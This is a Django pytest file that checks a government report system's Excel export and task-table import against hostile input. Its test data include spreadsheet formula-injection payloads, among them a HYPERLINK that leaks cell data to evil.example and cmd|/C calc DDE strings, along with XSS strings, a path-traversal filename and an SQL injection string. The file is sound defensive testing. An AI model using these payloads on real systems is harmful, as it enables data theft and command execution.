"""Hostile text on its way into the Excel workbooks (export), and hostile task tables on their way
in (import), end to end through the views.

Exported text a liaison typed must arrive as plain strings: never a formula (=HYPERLINK, @SUM,
+cmd|), no character XML cannot hold, nothing over a cell's 32,767 characters, nothing lost.
The import's own hostile files (zip bombs, billion laughs...) are tested in
tests/tasks/test_importing.py; here a few go through the upload page and the confirmation.
"""

from __future__ import annotations

import importlib.util
import io
import re

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db.models import F, Value
from django.db.models.functions import Concat
from django.urls import NoReverseMatch, reverse
from django.utils import timezone
from django.utils.html import escape

from plans.models import Department, Plan
from reports import services
from reports.models import Report, ReportItem
from tasks.models import Task, TaskDepartment
from tests.hostile.conftest import (
    SCRIPT,
    assert_nothing_live,
    assert_says_in_chinese,
    client_for,
)

pytestmark = pytest.mark.django_db

openpyxl = pytest.importorskip("openpyxl")


def _has_url(name: str, args) -> bool:
    try:
        reverse(name, args=args)
    except NoReverseMatch:
        return False
    return True


needs_export = pytest.mark.skipif(
    importlib.util.find_spec("reports.export") is None
    or importlib.util.find_spec("reports.excel") is None
    or not _has_url("report-export", ["liucheng", "2019-07"]),
    reason="reports/export.py, reports/excel.py or the report-export URLs (helper H1) are missing",
)
needs_import = pytest.mark.skipif(
    importlib.util.find_spec("tasks.importing") is None
    or not _has_url("task-import", ["liucheng"]),
    reason="tasks/importing.py or the task-import URLs (helper H3) are missing",
)

CELL_LIMIT = 32767
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看附件")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C notepad'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "=1+1",
    "\t=1+1",
]
# The characters a workbook cannot hold: from Word (\x0b, \x0c) and from anywhere else.
CONTROL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")


def workbook_cells(content: bytes) -> list:
    book = openpyxl.load_workbook(io.BytesIO(content))
    return [cell for ws in book.worksheets for row in ws.iter_rows() for cell in row]


def assert_plain_strings(cells) -> None:
    """No formula anywhere; text that Excel would read as one is marked as text."""
    for cell in cells:
        assert cell.data_type != "f", (cell.coordinate, cell.value)
        if isinstance(cell.value, str):
            assert len(cell.value) <= CELL_LIMIT, cell.coordinate
            assert not CONTROL.search(cell.value), (cell.coordinate, cell.value[:80])
            if cell.value.startswith(("=", "+", "-", "@")):
                assert cell.quotePrefix, (cell.coordinate, cell.value)


def download(client, url: str) -> bytes:
    response = client.get(url)
    assert response.status_code == 200, url
    assert response["Content-Type"].startswith(
        "application/vnd.openxmlformats-officedocument.spreadsheetml"
    )
    return b"".join(response.streaming_content)


@pytest.fixture
def submitted(report, liaison_user, monkeypatch) -> Report:
    monkeypatch.setattr(services, "check_for_submission", lambda report: {})
    return services.report_submit(report=report, by=liaison_user, version=report.version)


def write_texts(report: Report, texts: list[str]) -> list[ReportItem]:
    """Put each text into one item's progress, as the admin (which has no length limit) could."""
    items = list(report.items.order_by("task__position")[: len(texts)])
    assert len(items) == len(texts)
    for item, text in zip(items, texts, strict=True):
        ReportItem.objects.filter(pk=item.pk).update(progress=text, problems=text[:50])
    return items


# -- Export ---------------------------------------------------------------------------------------


@needs_export
@pytest.mark.parametrize("which", ["plan", "department"])
def test_formula_looking_progress_text_is_exported_as_plain_text(office_client, submitted, which):
    write_texts(submitted, FORMULAS)
    url = (
        reverse("report-export", args=["liucheng", "2019-07"])
        if which == "plan"
        else reverse("report-export-department", args=[submitted.pk])
    )
    cells = workbook_cells(download(office_client, url))
    assert_plain_strings(cells)
    values = [c.value for c in cells if isinstance(c.value, str)]
    for formula in FORMULAS:
        assert any(formula.strip() in v for v in values), formula


@needs_export
def test_control_characters_from_word_are_exported_as_line_breaks(office_client, submitted):
    write_texts(submitted, ["第一段\x0b第二段\x0c第三段\x07\x1b完"])
    url = reverse("report-export-department", args=[submitted.pk])
    cells = workbook_cells(download(office_client, url))
    assert_plain_strings(cells)
    assert any(isinstance(c.value, str) and "第一段\n第二段\n第三段" in c.value for c in cells)


@needs_export
@pytest.mark.parametrize("which", ["plan", "department"])
def test_a_40000_character_progress_text_is_exported_whole_across_cells(
    office_client, submitted, which
):
    text = "甲" * 40_000
    write_texts(submitted, [text])
    url = (
        reverse("report-export", args=["liucheng", "2019-07"])
        if which == "plan"
        else reverse("report-export-department", args=[submitted.pk])
    )
    cells = workbook_cells(download(office_client, url))
    assert_plain_strings(cells)
    kept = sum(c.value.count("甲") for c in cells if isinstance(c.value, str))
    assert kept >= 40_000


@needs_export
def test_hostile_names_are_exported_as_plain_strings(office_client, submitted, liaison_user):
    Department.objects.filter(pk=submitted.department_id).update(
        name=Concat(F("name"), Value('=HYPERLINK("http://evil.example")'))
    )
    Plan.objects.filter(code="liucheng").update(title=f"=cmd|'/C calc'!A0{SCRIPT}")
    liaison_user.first_name = "@SUM(A1)"
    liaison_user.save(update_fields=["first_name"])
    for url in (
        reverse("report-export", args=["liucheng", "2019-07"]),
        reverse("report-export-department", args=[submitted.pk]),
    ):
        response = office_client.get(url)
        assert "\n" not in response["Content-Disposition"]
        cells = workbook_cells(b"".join(response.streaming_content))
        assert_plain_strings(cells)


@needs_export
@pytest.mark.parametrize("period", ["2019-13", "9999-07", "0000-12", "2019-07%00", "٢٠١٩-07"])
def test_the_export_of_a_period_that_is_not_the_plans_is_a_chinese_404(office_client, period):
    response = office_client.get(f"/plans/liucheng/reports/{period}/export.xlsx")
    assert response.status_code == 404
    assert_says_in_chinese(response)


@needs_export
def test_another_departments_liaison_cannot_export_the_report(other_liaison, submitted):
    response = client_for(other_liaison).get(
        reverse("report-export-department", args=[submitted.pk])
    )
    assert response.status_code == 404
    assert_says_in_chinese(response, "页面不存在")


@needs_export
def test_a_liaison_cannot_export_the_whole_plan(liaison_client):
    response = liaison_client.get(reverse("report-export", args=["liucheng", "2019-07"]))
    assert response.status_code == 403
    assert_says_in_chinese(response, "没有权限")


# -- Import ---------------------------------------------------------------------------------------


def task_table(rows: list[list[object]]) -> bytes:
    from tasks.table import TASK_TABLE_HEADERS

    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = "任务进展"
    sheet.append(list(TASK_TABLE_HEADERS))
    for row in rows:
        sheet.append(row)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def plan_tasks(code: str = "liucheng") -> list[tuple]:
    return list(
        Task.objects.filter(plan__code=code)
        .order_by("pk")
        .values_list("pk", "clause", "title", "text", "schedule")
    ) + list(
        TaskDepartment.objects.filter(task__plan__code=code)
        .order_by("pk")
        .values_list("pk", "department_id", "role")
    )


def import_upload(client, name: str, content: bytes, code: str = "liucheng"):
    url = reverse("task-import", args=[code])
    return client.post(url, {"file": SimpleUploadedFile(name, content)})


def kept_uploads(media) -> list:
    folder = media / "imports"
    return sorted(folder.iterdir()) if folder.exists() else []


@needs_import
@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("tasks.xlsx", b"MZ\x90\x00" + b"\x00" * 200),  # an .exe renamed .xlsx
        ("tasks.xlsx", b""),
        ("tasks.xlsx", b"<html><script>alert(1)</script></html>"),
        ("../../etc/passwd.xlsx", b"PK\x03\x04broken"),
        ("tasks.csv", b"1,<script>alert(1)</script>,x,y,z"),
        ("tasks.xlsx\x00.exe", b"MZ"),
    ],
)
def test_a_file_that_is_not_a_task_table_is_refused_in_chinese_and_changes_nothing(
    office_client, media, name, content
):
    before = plan_tasks()
    response = import_upload(office_client, name, content)
    assert response.status_code == 400
    assert_says_in_chinese(response)
    assert_nothing_live(response.content.decode())
    assert plan_tasks() == before
    assert kept_uploads(media) == []


@needs_import
def test_an_import_over_the_size_limit_is_refused(office_client, media, settings):
    from tasks.importing import max_upload_bytes

    big = task_table([["1", "任务", "县民政局", "", ""]])
    settings.IMPORT_MAX_BYTES = len(big) - 1
    if max_upload_bytes() != len(big) - 1:
        pytest.skip("the import's size limit is not the IMPORT_MAX_BYTES setting")
    before = plan_tasks()
    response = import_upload(office_client, "任务表.xlsx", big)
    assert response.status_code == 400
    assert_says_in_chinese(response, "过大")
    assert plan_tasks() == before


@needs_import
def test_hostile_text_in_a_task_table_is_previewed_escaped_and_imported_as_text(
    office_client, media
):
    plan = Plan.objects.get(code="liucheng")
    department = Department.objects.filter(jurisdiction=plan.jurisdiction).first()
    table = task_table(
        [
            [
                "九、(九)9",
                f'新任务{SCRIPT}"><img src=x onerror=alert(1)>',
                department.name,
                "",
                "2020年",
            ]
        ]
    )
    response = import_upload(office_client, "任务表.xlsx", table)
    assert response.status_code == 200
    html = response.content.decode()
    assert_nothing_live(html)
    assert escape(SCRIPT) in html
    fingerprint = re.search(r'name="fingerprint" value="([^"]+)"', html)
    assert fingerprint, "the preview offers no confirmation"
    url = reverse("task-import-confirm", args=["liucheng"])
    response = office_client.post(url, {"action": "confirm", "fingerprint": fingerprint[1]})
    assert response.status_code == 302
    task = Task.objects.get(plan=plan, clause="九、(九)9")
    assert SCRIPT in task.text  # stored as typed
    page = office_client.get(task.get_absolute_url()).content.decode()
    assert_nothing_live(page)
    assert kept_uploads(media) == []


@needs_import
def test_a_formula_in_a_task_table_is_not_imported_as_text(office_client, media):
    table = task_table(
        [["九、(九)9", '=HYPERLINK("http://evil.example","点击")', "县民政局", "", ""]]
    )
    response = import_upload(office_client, "任务表.xlsx", table)
    assert response.status_code in (200, 400)
    assert_says_in_chinese(response)
    fingerprint = re.search(r'name="fingerprint" value="([^"]+)"', response.content.decode())
    if fingerprint:
        url = reverse("task-import-confirm", args=["liucheng"])
        office_client.post(url, {"action": "confirm", "fingerprint": fingerprint[1]})
    assert not Task.objects.filter(plan__code="liucheng", text__contains="HYPERLINK").exists()


@needs_import
@pytest.mark.parametrize(
    "data",
    [
        {"action": "confirm", "fingerprint": "x"},
        {"action": "confirm", "fingerprint": "'; DROP TABLE plans_plan; --"},
        {"action": "confirm", "dept-1": SCRIPT},
    ],
)
def test_confirming_without_an_upload_changes_nothing(office_client, media, data):
    before = plan_tasks()
    response = office_client.post(reverse("task-import-confirm", args=["liucheng"]), data)
    assert response.status_code == 302
    assert_says_in_chinese(response, "没有待确认的导入文件")
    assert plan_tasks() == before


@needs_import
def test_a_tampered_fingerprint_or_department_choice_writes_nothing(office_client, media):
    table = task_table([["九、(九)9", "新任务", "不存在的新部门", "", ""]])
    response = import_upload(office_client, "任务表.xlsx", table)
    assert response.status_code == 200
    before = plan_tasks()
    url = reverse("task-import-confirm", args=["liucheng"])
    for data in (
        {"action": "confirm", "fingerprint": "forged"},
        {"action": "confirm", "fingerprint": "forged", "dept-不存在的新部门": "999999999"},
        {"action": "confirm", "fingerprint": "forged", "dept-不存在的新部门": SCRIPT},
    ):
        response = office_client.post(url, data)
        assert response.status_code < 500
        assert_says_in_chinese(response)
        assert_nothing_live(response.content.decode())
        assert plan_tasks() == before


@needs_import
@pytest.mark.parametrize("username", ["liaison", "leader"])
def test_only_the_office_imports(django_user_model, media, username):
    client = client_for(django_user_model.objects.get(username=username))
    before = plan_tasks()
    response = import_upload(client, "任务表.xlsx", task_table([["1", "任务", "", "", ""]]))
    assert response.status_code == 403
    assert plan_tasks() == before


# -- The circular (通报), page and sheet ----------------------------------------------------------

needs_circular = pytest.mark.skipif(
    importlib.util.find_spec("reports.circular") is None
    or not _has_url("report-circular", ["liucheng", "2019-07"]),
    reason="reports/circular.py or the report-circular URLs are missing",
)


@needs_circular
def test_the_circular_shows_hostile_reasons_escaped_and_exports_them_as_text(
    office_client, submitted
):
    ReportItem.objects.filter(report=submitted).update(
        delay_reason=f"{FORMULAS[0]}{SCRIPT}", measures=FORMULAS[2]
    )
    Department.objects.filter(pk=submitted.department_id).update(
        name=Concat(F("name"), Value(f"{SCRIPT}=1+1"))
    )
    page = office_client.get(reverse("report-circular", args=["liucheng", "2019-07"]))
    assert page.status_code == 200
    html = page.content.decode()
    assert_nothing_live(html)
    assert escape(SCRIPT) in html
    response = office_client.get(reverse("report-circular-export", args=["liucheng", "2019-07"]))
    assert response.status_code == 200
    assert_plain_strings(workbook_cells(response.getvalue()))


@needs_circular
@pytest.mark.parametrize("period", ["2019-13", "0000-12", "9999-07"])
def test_the_circular_of_a_period_that_is_not_the_plans_is_a_chinese_404(office_client, period):
    for name in ("report-circular", "report-circular-export"):
        response = office_client.get(reverse(name, args=["liucheng", period]))
        assert response.status_code == 404
        assert_says_in_chinese(response, "页面不存在")


@needs_import
@pytest.mark.parametrize("choice", ["²", "¹²³"])
def test_a_department_choice_of_superscript_digits_is_refused_not_a_500(
    office_client, media, choice
):
    from tasks.import_plan import unknown_key

    table = task_table([["九、(九)9", "新任务", "不存在的新部门", "", ""]])
    assert import_upload(office_client, "任务表.xlsx", table).status_code == 200
    before = plan_tasks()
    url = reverse("task-import-confirm", args=["liucheng"])
    data = {"action": "refresh", unknown_key("不存在的新部门"): choice}
    response = office_client.post(url, data)
    assert response.status_code < 500
    assert_says_in_chinese(response)
    assert plan_tasks() == before


def test_a_far_future_expected_date_is_shown_and_exported_without_error(
    liaison_client, office_client, report, item
):
    from tests.hostile.conftest import page_data

    data = page_data(report)
    data[f"item-{item.pk}-new_expected_date"] = "9999-12-31"
    data[f"item-{item.pk}-delay_reason"] = "资金未到位"
    response = liaison_client.post(reverse("report-edit", args=[report.pk]), data)
    assert response.status_code == 302
    item.refresh_from_db()
    assert str(item.new_expected_date) == "9999-12-31"
    Report.objects.filter(pk=report.pk).update(
        state=Report.State.SUBMITTED, first_submitted_at=timezone.now()
    )
    urls = [
        reverse("report-detail", args=[report.pk]),
        reverse("report-history", args=[report.pk]),
        reverse("report-board", args=["liucheng", "2019-07"]) + "?view=tasks",
    ]
    if _has_url("report-export", ["liucheng", "2019-07"]):
        urls += [
            reverse("report-export", args=["liucheng", "2019-07"]),
            reverse("report-export-department", args=[report.pk]),
        ]
    if _has_url("report-circular", ["liucheng", "2019-07"]):
        urls += [
            reverse("report-circular", args=["liucheng", "2019-07"]),
            reverse("report-circular-export", args=["liucheng", "2019-07"]),
        ]
    for url in urls:
        assert office_client.get(url).status_code == 200, url
